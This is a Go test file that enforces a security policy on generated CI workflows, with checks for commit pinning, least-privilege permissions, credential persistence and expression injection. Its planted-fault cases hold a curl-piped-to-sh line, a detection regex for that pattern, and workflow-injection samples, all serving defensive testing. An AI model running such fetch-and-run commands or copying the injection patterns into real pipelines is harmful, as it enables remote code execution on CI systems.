// SPDX-FileCopyrightText: 2026 La Compagnie des Tiers-Lieux and contributors
// SPDX-License-Identifier: Apache-2.0

package scaffold_test

import (
	"bytes"
	"flag"
	"io/fs"
	"os"
	"path"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"testing"

	"go.yaml.in/yaml/v4"

	"github.com/compagnie-tiers-lieux/maillage/build"
	"github.com/compagnie-tiers-lieux/maillage/build/scaffold"
	"github.com/compagnie-tiers-lieux/maillage/themes"
)

var update = flag.Bool("update", false, "write the repository's own copies again")

const root = "../.."

// own are the files of this repository's forge and of its editors.
func own(t *testing.T) []scaffold.File {
	t.Helper()
	schemas, err := build.Schemas(os.DirFS(root), themes.FS())
	if err != nil {
		t.Fatal(err)
	}
	files := forge(t, scaffold.ForgeOptions{Kind: "github", Owner: "compagnie-tiers-lieux", Own: true, Schemas: schemas, Lang: "fr"})
	editor, err := scaffold.Editor(schemas, "fr", "./build/schema/")
	if err != nil {
		t.Fatal(err)
	}
	return append(files, editor...)
}

func forge(t *testing.T, o scaffold.ForgeOptions) []scaffold.File {
	t.Helper()
	files, err := scaffold.Forge(o)
	if err != nil {
		t.Fatal(err)
	}
	return files
}

// The repository uses what it gives to others: its workflows and issue forms are made here.
func TestTheRepositoryUsesTheSameFiles(t *testing.T) {
	for _, f := range own(t) {
		name := filepath.Join(root, filepath.FromSlash(f.Path))
		if *update {
			if err := os.MkdirAll(filepath.Dir(name), 0o755); err != nil {
				t.Fatal(err)
			}
			if err := os.WriteFile(name, f.Text, 0o644); err != nil {
				t.Fatal(err)
			}
		}
		text, err := os.ReadFile(name)
		if err != nil {
			t.Errorf("%v; go test ./build/scaffold -update writes it", err)
		} else if !bytes.Equal(text, f.Text) {
			t.Errorf("%s is another than the one of build/scaffold; go test ./build/scaffold -update writes it again", f.Path)
		}
	}
}

// Issue forms must have labels and ids of their own: the answers are told apart by them.
func TestTheQuestionsOfAnIssueFormDiffer(t *testing.T) {
	for _, f := range own(t) {
		if !strings.Contains(f.Path, "ISSUE_TEMPLATE") {
			continue
		}
		var form struct {
			Name, Description, Title string
			Body                     []struct {
				Type, ID   string
				Attributes struct {
					Label, Description, Value, Placeholder string
					Options                                []any
				}
				Validations struct{ Required bool }
			}
		}
		if err := yaml.Load(f.Text, &form); err != nil {
			t.Fatalf("%s: %v", f.Path, err)
		}
		seen := map[string]bool{}
		for _, q := range form.Body {
			if q.Type == "markdown" {
				continue
			}
			label := strings.Join(strings.Fields(q.Attributes.Label), " ")
			if label == "" || seen[label] || seen[q.ID] || !regexp.MustCompile(`^[a-zA-Z0-9_-]+$`).MatchString(q.ID) {
				t.Errorf("%s: label %q, id %q", f.Path, label, q.ID)
			}
			if (q.Type == "dropdown" || q.Type == "checkboxes") && len(q.Attributes.Options) == 0 {
				t.Errorf("%s: %s has nothing to choose from", f.Path, label)
			}
			seen[label], seen[q.ID] = true, true
		}
		if form.Name == "" || form.Description == "" || len(seen) < 10 {
			t.Errorf("%s: %q, %q, %d questions", f.Path, form.Name, form.Description, len(seen)/2)
		}
	}
}

// A workflow is what the policy looks at.
type workflow struct {
	On          any
	Permissions any
	Concurrency any
	Jobs        map[string]struct {
		Permissions    map[string]string
		TimeoutMinutes int `yaml:"timeout-minutes"`
		Uses           string
		Steps          []struct {
			Uses, Run string
			With      map[string]any
			Env       map[string]string
		}
	}
}

// writes are the scopes in which jobs may write, and nothing else.
var writes = map[string][]string{
	"comment/comment":       {"pull-requests"},
	"publish/deploy":        {"pages", "id-token"},
	"contribute/contribute": {"contents", "issues", "pull-requests"},
	"publish/publish":       {"contents"}, // on Forgejo, where the site is a branch
	"release/publish":       {"attestations", "contents", "id-token", "packages"},
}

var (
	pinned    = regexp.MustCompile(`^[a-z0-9-]+/[a-z0-9./-]+@[0-9a-f]{40}$`)
	named     = regexp.MustCompile(`uses: \S+@[0-9a-f]{40} # v\d+\.\d+\.\d+\n`)
	expressed = regexp.MustCompile(`\$\{\{`)
)

// The policy of workflows (trust 60–64): what a stranger may write never becomes a command, a right or a version.
func TestThePolicyOfWorkflows(t *testing.T) {
	files := own(t)
	for _, kind := range []string{"github", "forgejo"} {
		files = append(files, forge(t, scaffold.ForgeOptions{Kind: kind, Owner: "reseau"})...)
	}
	err := fs.WalkDir(os.DirFS(root), ".github/workflows", func(name string, e fs.DirEntry, err error) error {
		if err != nil || e.IsDir() {
			return err
		}
		text, err := os.ReadFile(filepath.Join(root, name))
		files = append(files, scaffold.File{Path: name, Text: text})
		return err
	})
	if err != nil {
		t.Fatal(err)
	}
	looked := 0
	for _, f := range files {
		if path.Base(path.Dir(f.Path)) != "workflows" {
			continue
		}
		looked++
		for _, fault := range policy(t, f) {
			t.Errorf("%s: %s", f.Path, fault)
		}
	}
	if looked < 10 {
		t.Errorf("only %d workflows were looked at", looked)
	}
}

// policy returns what a workflow does that none may do.
func policy(t *testing.T, f scaffold.File) (faults []string) {
	t.Helper()
	var w workflow
	if err := yaml.Load(f.Text, &w); err != nil {
		t.Fatalf("%s: %v", f.Path, err)
	}
	fault := func(text string) { faults = append(faults, text) }
	text, name := string(f.Text), strings.TrimSuffix(path.Base(f.Path), path.Ext(f.Path))
	for _, never := range []string{"pull_request_target", "write-all", "secrets.", "toJSON(", "allow-unsafe-pr-checkout"} {
		if strings.Contains(text, never) {
			fault("it says " + never)
		}
	}
	if regexp.MustCompile(`(curl|wget)[^\n]*\|\s*(ba|z)?sh`).MatchString(text) {
		fault("it runs what it fetches")
	}
	if regexp.MustCompile(`\|\s*grep -[a-zA-Z]*q`).MatchString(text) {
		fault("a pipe into grep -q, which may end before what writes into it, and fails the step then")
	}
	if p, empty := w.Permissions.(map[string]any); !empty || len(p) > 0 {
		fault("its permissions at the top are not {}")
	}
	if w.Concurrency == nil {
		fault("it has no concurrency")
	}
	if strings.Count(text, "uses: ") != len(named.FindAllString(text, -1)) {
		fault("an action does not say its version beside its commit")
	}
	for id, job := range w.Jobs {
		if job.TimeoutMinutes == 0 {
			fault(id + " has no timeout")
		}
		if job.Uses != "" {
			fault(id + " is another workflow")
		}
		for scope, right := range job.Permissions {
			if right == "write" && !slices.Contains(writes[name+"/"+id], scope) {
				fault(id + " may write " + scope)
			}
		}
		for _, step := range job.Steps {
			if step.Uses != "" && !pinned.MatchString(step.Uses) {
				fault(step.Uses + " is not pinned by its commit")
			}
			if expressed.MatchString(step.Run) {
				fault("an expression inside run: " + step.Run)
			}
			if strings.HasPrefix(step.Uses, "actions/checkout@") {
				if step.With["persist-credentials"] != false {
					fault("a checkout keeps its credentials")
				}
				if _, moved := step.With["ref"]; moved {
					fault("a checkout of something else than the event's own commit")
				}
			}
		}
	}
	return faults
}

// The policy finds what it is there to find.
func TestThePolicyFindsPlantedFaults(t *testing.T) {
	const good = `on:
  pull_request:
permissions: {}
concurrency: x
jobs:
  check:
    timeout-minutes: 5
    permissions:
      contents: read
    steps:
      - uses: actions/checkout@3d3c42e5aac5ba805825da76410c181273ba90b1 # v7.0.1
        with:
          persist-credentials: false
      - run: echo "$TITLE"
        env:
          TITLE: ${{ github.event.issue.title }}
`
	if faults := policy(t, scaffold.File{Path: ".github/workflows/check.yml", Text: []byte(good)}); len(faults) > 0 {
		t.Fatalf("a good workflow: %q", faults)
	}
	for _, planted := range [][2]string{
		{"  pull_request:", "  pull_request_target:"},
		{"permissions: {}", "permissions: read-all"},
		{"permissions: {}", "permissions: {contents: write}"},
		{"concurrency: x\n", ""},
		{"    timeout-minutes: 5\n", ""},
		{"contents: read", "contents: write"},
		{"@3d3c42e5aac5ba805825da76410c181273ba90b1 # v7.0.1", "@v7 # v7.0.1"},
		{" # v7.0.1", ""},
		{"persist-credentials: false", "persist-credentials: true"},
		{"persist-credentials: false", "persist-credentials: false\n          ref: ${{ github.event.pull_request.head.sha }}"},
		{`echo "$TITLE"`, `echo "${{ github.event.issue.title }}"`},
		{`echo "$TITLE"`, `curl -s https://example.org/x | sh`},
		{"github.event.issue.title", "secrets.TOKEN"},
		{`echo "$TITLE"`, `git log | grep -qF x`},
	} {
		text := strings.Replace(good, planted[0], planted[1], 1)
		if text == good {
			t.Errorf("%q is not there", planted[0])
		}
		if faults := policy(t, scaffold.File{Path: ".github/workflows/check.yml", Text: []byte(text)}); len(faults) == 0 {
			t.Errorf("nothing is said of %q", planted[1])
		}
	}
}

// GitLab has no permissions to give away; what it runs must still not be a contributor's text.
func TestGitLabRunsNothingOfAContribution(t *testing.T) {
	for _, f := range forge(t, scaffold.ForgeOptions{Kind: "gitlab"}) {
		var pipeline map[string]any
		if err := yaml.Load(f.Text, &pipeline); err != nil {
			t.Fatal(err)
		}
		for _, variable := range []string{"CI_MERGE_REQUEST_TITLE", "CI_MERGE_REQUEST_DESCRIPTION", "CI_COMMIT_MESSAGE", "CI_COMMIT_TITLE", "CI_MERGE_REQUEST_SOURCE_BRANCH_NAME", "CI_COMMIT_REF_NAME"} {
			if strings.Contains(string(f.Text), variable) {
				t.Errorf("it uses %s", variable)
			}
		}
		if regexp.MustCompile(`\|\s*grep -[a-zA-Z]*q`).Match(f.Text) {
			t.Error("a pipe into grep -q may fail the job at random")
		}
		if pipeline["check"] == nil || pipeline["pages"] == nil {
			t.Errorf("jobs: %v", pipeline)
		}
	}
}
